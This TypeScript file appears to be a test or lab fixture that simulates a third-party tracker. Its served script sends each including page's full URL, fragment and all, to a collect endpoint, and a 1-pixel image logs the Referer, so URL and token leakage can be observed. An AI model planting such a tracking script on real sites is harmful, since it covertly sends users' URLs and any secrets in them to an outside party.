import type { RequestListener } from "node:http";
import express from "express";
import type { Log } from "../log.js";
import type { Origins } from "../origins.js";

/** A third party whose script reports the URL of every page that includes it, fragment and all; and its image. */
export function trackerSite(origins: Origins, log: Log): RequestListener {
  const site = express();
  site.disable("x-powered-by");
  site.get("/t.js", (_request, response) => {
    const collect = JSON.stringify(`${origins.tracker}/collect?url=`);
    response
      .type("text/javascript")
      .set("cache-control", "no-store")
      .send(`new Image().src = ${collect} + encodeURIComponent(location.href);\n`);
  });
  site.get("/collect", (request, response) => {
    log.add({ type: "leak", url: String(request.query.url ?? "") });
    response.set("cache-control", "no-store").status(204).end();
  });
  site.get("/pixel.svg", (request, response) => {
    log.add({ type: "referer", url: request.headers.referer ?? "" });
    response.type("image/svg+xml").set("cache-control", "no-store");
    response.send('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>');
  });
  return site;
}
